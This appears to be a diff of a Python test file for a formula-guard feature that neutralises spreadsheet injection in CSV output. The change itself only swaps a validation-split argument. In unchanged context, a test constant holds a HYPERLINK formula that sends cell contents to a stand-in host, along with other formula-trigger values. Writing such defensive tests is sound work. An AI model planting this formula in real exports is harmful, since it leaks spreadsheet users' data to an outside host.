@@ -11,6 +11,7 @@ import pytest
 from engage.formula_guard import FORMULA_START, guard_frame, unguard_frame
 from engage.outputs import TableWriter, to_csv_bytes
 from engage.reading import read_messages, read_table
+from engage.validation import Validation
 
 EVIL = '=HYPERLINK("http://x.example/?leak="&A2,"click")'
 COLUMNS = ["text", EVIL, "@who", "'=already quoted", "+44", "plain"]
@@ -69,7 +70,7 @@ def model_env(hub_fixture, tmp_path_factory) -> dict[str, str]:
     pd.DataFrame({"text": [t for t, _ in rows], "label": [y for _, y in rows]}).to_csv(labeled, index=False)
     train_model(read_messages(labeled, label_col="label"), load_encoder(str(hub_fixture)),
                 HeadConfig(elmo_branch="linear"), name="guarded", activate=True, root=base / "models",
-                val_split=0.3)
+                validation=Validation.held_out(0.3))
     return {"ENGAGE_MODELS_DIR": str(base / "models"), "ENGAGE_CACHE_DIR": str(base / "cache")}
 
 
